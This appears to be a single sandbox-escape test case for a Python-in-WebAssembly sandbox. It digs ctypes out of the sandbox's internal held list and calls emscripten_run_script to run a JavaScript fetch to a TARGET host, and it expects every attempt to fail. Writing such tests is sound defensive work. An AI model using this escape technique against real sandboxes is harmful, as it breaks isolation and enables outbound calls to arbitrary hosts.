# attack: Takes ctypes out of the seal's list and calls the C function that evaluates JavaScript.
# expect: value []
import asyncio

reached = []
for thing in asyncio.sys.modules["glovebox_guest.seal"]._HELD:
    try:
        library = thing.CDLL(None)
        library.emscripten_run_script(b"fetch('" + TARGET.encode() + b"')")
        reached.append(str(thing))
    except Exception:
        pass
reached
